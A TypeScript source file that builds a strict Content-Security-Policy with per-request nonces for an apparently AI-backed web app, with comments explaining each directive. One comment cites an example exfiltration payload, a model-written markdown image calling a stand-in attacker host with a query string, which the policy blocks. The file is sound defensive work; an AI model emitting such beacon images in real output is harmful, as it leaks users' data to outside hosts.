import "server-only";

/**
 * H-1: the Content-Security-Policy of every page, built around a per-request nonce (set by proxy.ts).
 * - connect-src 'self': the browser only ever talks to this app, never the gateway or a beacon host.
 * - img-src/media-src allow only our own origin and the blob:/data: pictures and audio we made, so a
 *   model-written `![](https://attacker/?q=…)` cannot load.
 * - style-src-attr 'unsafe-inline': KaTeX and React style props write style attributes; attributes cannot load
 *   anything that img-src/font-src would refuse, while <style> elements still need the nonce.
 * - worker-src: 'strict-dynamic' does not extend to workers, so audio processing's workers are named here.
 */
export function contentSecurityPolicy(nonce: string, { dev = false, https = false } = {}): string {
  return [
    "default-src 'self'",
    `script-src 'self' 'nonce-${nonce}' 'strict-dynamic'${dev ? " 'unsafe-eval'" : ""}`,
    `style-src 'self' 'nonce-${nonce}'`,
    "style-src-attr 'unsafe-inline'",
    "img-src 'self' blob: data:",
    "media-src 'self' blob:",
    "font-src 'self' data:",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "manifest-src 'self'",
    "frame-src 'none'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    ...(https ? ["upgrade-insecure-requests"] : []),
  ].join("; ");
}
